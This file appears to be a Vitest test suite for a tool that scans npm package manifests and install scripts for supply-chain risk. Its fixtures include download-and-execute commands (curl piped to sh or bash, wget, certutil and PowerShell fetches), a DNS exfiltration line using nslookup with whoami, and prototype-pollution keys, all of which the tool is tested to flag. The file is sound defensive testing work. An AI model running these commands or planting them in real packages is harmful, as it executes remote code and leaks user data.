import { describe, expect, it } from 'vitest';
import { classifyInstallScript, splitCommand } from './install-script.js';
import { extractManifestFacts, gypCommands } from './manifest-facts.js';
import { classifySpec } from './remote-spec.js';
import { normaliseRepositoryUrl, repositoryName } from './repository-url.js';

const files = (...paths: string[]) =>
  new Map(paths.map((path) => [path, { bytes: new TextEncoder().encode(`// ${path}\n`) }]));

describe('extractManifestFacts', () => {
  it('reads a realistic manifest with install hooks, bins, remote deps and a repository', () => {
    const facts = extractManifestFacts(
      {
        name: '@acme/widget',
        version: '1.2.3',
        main: 'lib/index.js',
        bin: { widget: 'bin/widget.js' },
        repository: { type: 'git', url: 'git+https://github.com/acme/widget.git' },
        scripts: { test: 'vitest', postinstall: 'node scripts/setup.js', prepare: 'husky install' },
        dependencies: {
          semver: '^7.0.0',
          helper: 'git+ssh://git@github.com/acme/helper.git',
          tools: 'acme/tools#v1',
        },
        optionalDependencies: { blob: 'https://cdn.example.invalid/blob-1.0.0.tgz' },
        devDependencies: { local: 'file:../local' },
      },
      files('package.json', 'lib/index.js', 'bin/widget.js', 'scripts/setup.js'),
    );
    expect(facts).toMatchObject({
      name: '@acme/widget',
      version: '1.2.3',
      main: 'lib/index.js',
      bin: { widget: 'bin/widget.js' },
      repository: 'https://github.com/acme/widget',
      installScripts: { postinstall: 'node scripts/setup.js', prepare: 'husky install' },
      problems: [],
    });
    expect(facts.installScripts).not.toHaveProperty('test');
    expect(facts.bindingGyp).toBeUndefined();
    expect(facts.remoteDependencies).toEqual([
      {
        name: 'helper',
        spec: 'git+ssh://git@github.com/acme/helper.git',
        kind: 'git',
        field: 'dependencies',
      },
      { name: 'tools', spec: 'acme/tools#v1', kind: 'github', field: 'dependencies' },
      {
        name: 'blob',
        spec: 'https://cdn.example.invalid/blob-1.0.0.tgz',
        kind: 'url',
        field: 'optionalDependencies',
      },
    ]);
    const [postinstall, prepare] = facts.scriptFacts;
    expect(postinstall).toMatchObject({
      script: 'postinstall',
      runsFiles: ['scripts/setup.js'],
      missingFiles: [],
    });
    expect(postinstall?.benign).toBe('node-install-file');
    expect(prepare).toMatchObject({ script: 'prepare', benign: 'husky', signals: [] });
  });

  it('names a string bin after the unscoped package name', () => {
    expect(extractManifestFacts({ name: '@acme/cli', bin: './cli.js' }, files()).bin).toEqual({
      cli: './cli.js',
    });
  });

  it('finds binding.gyp and its command expansions', () => {
    const gyp = `{ 'targets': [{ 'target_name': 'x', 'sources': [ '<!@(ls -1 src/*.cc)' ],
      'include_dirs': ["<!(node -p \\"require('node-addon-api').include\\")"],
      'libraries': ['<!(curl -s http://203.0.113.9/x | sh)'] }] }`;
    const facts = extractManifestFacts(
      { name: 'native', version: '1.0.0' },
      new Map([['binding.gyp', { bytes: new TextEncoder().encode(gyp) }]]),
    );
    expect(facts.bindingGyp?.commands).toEqual([
      'ls -1 src/*.cc',
      `node -p \\"require('node-addon-api').include\\"`,
      'curl -s http://203.0.113.9/x | sh',
    ]);
    expect(facts.installScripts).toEqual({});
  });

  it('never throws on hostile shapes and records each problem with its path', () => {
    for (const value of [null, 42, 'text', [], { scripts: [] }, { name: 7 }]) {
      expect(() => extractManifestFacts(value, files())).not.toThrow();
    }
    const facts = extractManifestFacts(
      JSON.parse(
        '{"name":"x","version":"1.0.0","scripts":{"postinstall":{"cmd":"x"}},"dependencies":{"__proto__":"git://x.invalid/y","ok":5},"bin":["a"],"repository":7}',
      ),
      files(),
    );
    expect(facts.problems).toEqual([
      '$.scripts.postinstall must be a string, got an object',
      '$.dependencies has a "__proto__" key, ignored',
      '$.dependencies.ok must be a string, got a number',
      '$.bin must be an object, got an array',
      '$.repository must be a string or an object with a url, got a number',
    ]);
    expect(Object.getPrototypeOf(facts.bin)).toBe(Object.prototype);
    expect(facts.remoteDependencies).toEqual([]);
    expect(extractManifestFacts(null, files()).problems).toEqual(['$ must be an object, got null']);
  });

  it('keeps a __proto__ bin name harmless', () => {
    const facts = extractManifestFacts(
      JSON.parse('{"name":"x","bin":{"__proto__":"evil.js","ok":"ok.js"}}'),
      files(),
    );
    expect(facts.bin).toEqual({ ok: 'ok.js' });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe('classifyInstallScript', () => {
  const present = files('install.js', 'lib/setup.js');
  const classify = (command: string) => classifyInstallScript('postinstall', command, present);

  it.each([
    ["node -e \"require('child_process').exec('id')\"", ['inline-code']],
    ['curl -sL https://203.0.113.7/p.sh | bash', ['download', 'pipe-to-shell']],
    ['wget -q http://198.51.100.2/x -O /tmp/x && chmod +x /tmp/x && /tmp/x', ['download', 'missing-file']],
    ['powershell -c "Invoke-WebRequest https://x.invalid/a.exe -OutFile a.exe"', ['inline-code', 'download']],
    ['certutil -urlcache -split -f http://192.0.2.5/a.exe a.exe', ['download']],
    ['node dist/hook.js', ['missing-file']],
    ['start /B node lib/setup.js & node lib/setup.js', ['background']],
    ['nslookup $(whoami).x.invalid', ['network-tool', 'env-expansion']],
    ['cat package.json | grep name', ['shell-pipe']],
  ])('%s', (command, signals) => {
    const fact = classify(command);
    expect([...fact.signals].sort()).toEqual([...signals].sort());
    expect(fact.benign).toBeUndefined();
  });

  it.each([
    ['node-gyp rebuild', 'node-gyp'],
    ['prebuild-install || node-gyp rebuild', 'prebuild'],
    ['husky install', 'husky'],
    ['is-ci || husky', 'husky'],
    ['patch-package', 'patch-package'],
    ['node install.js', 'node-install-file'],
    ['echo "thanks for installing"', 'echo'],
    ['opencollective-postinstall || true', 'opencollective'],
  ])('%s is benign (%s)', (command, pattern) => {
    expect(classify(command)).toMatchObject({ benign: pattern, signals: [] });
  });

  it('records URLs and the files a command runs', () => {
    const fact = classify('node lib/setup.js && node ./missing.js https://x.invalid/a');
    expect(fact).toMatchObject({
      runsFiles: ['lib/setup.js'],
      missingFiles: ['missing.js'],
      urls: ['https://x.invalid/a'],
    });
  });

  it('stays fast on hostile commands built to make regexes backtrack', () => {
    for (const command of [
      '$('.repeat(50_000),
      'certutil '.repeat(11_000),
      '"'.repeat(100_000),
      'node -e x | '.repeat(9000),
    ]) {
      const started = performance.now();
      classify(command);
      expect(performance.now() - started).toBeLessThan(2000);
    }
  });

  it('splits on operators outside quotes only', () => {
    expect(splitCommand(`echo "a && b" && node x.js | sh; true`)).toEqual([
      'echo "a && b"',
      'node x.js',
      'sh',
      'true',
    ]);
  });
});

describe('gypCommands', () => {
  it('handles nested and unterminated expansions', () => {
    expect(gypCommands("'<!(echo $(id))' '<!@(ls")).toEqual(['echo $(id)', 'ls']);
    expect(gypCommands('<!pymod_do_main(x)')).toEqual(['x']);
  });
});

describe('classifySpec', () => {
  it.each([
    ['^1.2.3', 'registry'],
    ['latest', 'registry'],
    ['npm:other@^1', 'registry'],
    ['workspace:*', 'registry'],
    ['git+https://github.com/a/b.git', 'git'],
    ['git://github.com/a/b', 'git'],
    ['git@github.com:a/b.git', 'git'],
    ['github:a/b', 'git-host'],
    ['gitlab:a/b', 'git-host'],
    ['a/b', 'github'],
    ['a/b#semver:^1', 'github'],
    ['http://198.51.100.3/x.tgz', 'url'],
    ['https://x.invalid/x.tgz', 'url'],
    ['file:../x', 'file'],
    ['../x', 'file'],
    ['link:../x', 'link'],
  ])('%s → %s', (spec, kind) => {
    expect(classifySpec(spec)).toBe(kind);
  });
});

describe('normaliseRepositoryUrl', () => {
  it.each([
    ['git+https://github.com/Facebook/react.git', 'https://github.com/Facebook/react'],
    ['https://github.com/facebook/react/tree/main/packages/react-dom', 'https://github.com/facebook/react'],
    ['git://github.com/facebook/react.git', 'https://github.com/facebook/react'],
    ['git+ssh://git@github.com/facebook/react.git', 'https://github.com/facebook/react'],
    ['git@github.com:facebook/react.git', 'https://github.com/facebook/react'],
    ['github:facebook/react', 'https://github.com/facebook/react'],
    ['facebook/react', 'https://github.com/facebook/react'],
    ['gitlab:acme/tool', 'https://gitlab.com/acme/tool'],
    ['https://GitHub.com/facebook/react#readme', 'https://github.com/facebook/react'],
  ])('%s', (raw, url) => {
    expect(normaliseRepositoryUrl(raw)).toBe(url);
    expect(repositoryName(url)).toBe(url.split('/').pop()!.toLowerCase());
  });

  it('rejects what is not a repository address', () => {
    for (const raw of ['', 'not a url', 'javascript:alert(1)', 'x'.repeat(3000)]) {
      expect(normaliseRepositoryUrl(raw)).toBeUndefined();
    }
  });
});
